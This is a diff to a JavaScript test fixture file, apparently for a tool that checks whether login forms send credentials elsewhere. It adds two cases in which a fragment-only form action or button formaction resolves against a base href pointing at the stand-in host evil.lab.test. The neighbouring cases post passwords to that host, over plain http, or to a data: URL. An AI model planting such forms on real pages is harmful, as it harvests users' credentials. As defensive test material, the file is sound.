@@ -96,6 +96,8 @@ export default [
   attack('autofocus', 'a box that is no login has the focus', '<h1>Tell us</h1><form method="post" action="/take"><label>Your comment<input name="text" autofocus></label><button>Send</button></form>'),
   attack('action', 'the form goes to another origin', `<h1>Log in</h1>${form(U + P + B, 'method="post" action="https://evil.lab.test/take"')}`),
   attack('action-base', 'the page’s base is another origin', LOGIN, { head: '<base href="https://evil.lab.test/">' }),
+  attack('action-hash', 'the form goes to the page’s base by a fragment alone', `<h1>Log in</h1>${form(U + P + B, 'method="post" action="#" target="_blank"')}`, { head: '<base href="https://evil.lab.test/take">' }),
+  attack('formaction-hash', 'the button goes to the page’s base by a fragment alone', `<h1>Log in</h1>${form(`${U}${P}<button formaction="#" formtarget="_blank">Log in</button>`)}`, { head: '<base href="https://evil.lab.test/take">' }),
   attack('formaction', 'the button goes to another origin', `<h1>Log in</h1>${form(`${U}${P}<button formaction="https://evil.lab.test/take">Log in</button>`)}`),
   attack('action-open', 'the form goes over plain http', `<h1>Log in</h1>${form(U + P + B, 'method="post" action="http://attack-action-open.lab.test/take"')}`),
   attack('action-data', 'the form goes to an address without an origin', `<h1>Log in</h1>${form(U + P + B, 'method="post" action="data:text/html,hello"')}`),
